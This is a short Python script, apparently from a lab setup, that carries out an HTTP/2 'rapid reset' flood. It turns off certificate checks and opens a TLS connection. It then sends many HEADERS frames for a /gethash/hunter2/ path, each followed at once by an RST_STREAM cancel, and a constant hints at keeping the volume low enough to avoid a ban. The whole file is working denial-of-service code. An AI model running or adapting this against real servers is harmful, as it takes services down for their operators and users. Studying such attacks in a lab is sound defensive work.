"""resets ADDRESS COUNT: asks so many hashes on one connection of HTTP/2, each taken back in the same breath. Run in
another host's network."""

import socket
import struct
import sys

from lab.playbook import NAME
from support.service import unverified

TOO_FEW_FOR_A_BAN = 110
HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
END_OF_BOTH = 0x5  # of the stream, and of the headers
CANCEL = 8
# Entries of HPACK's static table: GET and https; names whose value follows.
GET, HTTPS, AUTHORITY, PATH = b"\x82", b"\x87", b"\x01", b"\x04"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


def literal(name: bytes, value: str) -> bytes:
    return name + bytes([len(value)]) + value.encode()


def taken_back(number: int) -> bytes:
    stream = 2 * number + 1
    request = GET + HTTPS + literal(AUTHORITY, NAME) + literal(PATH, "/gethash/hunter2/")
    cancel = struct.pack("!I", CANCEL)
    return frame(HEADERS, END_OF_BOTH, stream, request) + frame(RST_STREAM, 0, stream, cancel)


def main() -> None:
    address, count = sys.argv[1], int(sys.argv[2])
    context = unverified()
    context.set_alpn_protocols(["h2"])
    with socket.create_connection((address, 443), timeout=30) as plain:
        with context.wrap_socket(plain, server_hostname=NAME) as connection:
            begin = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
            connection.sendall(begin + b"".join(map(taken_back, range(count))))
            connection.shutdown(socket.SHUT_WR)
            while connection.recv(65536):
                pass


if __name__ == "__main__":
    main()
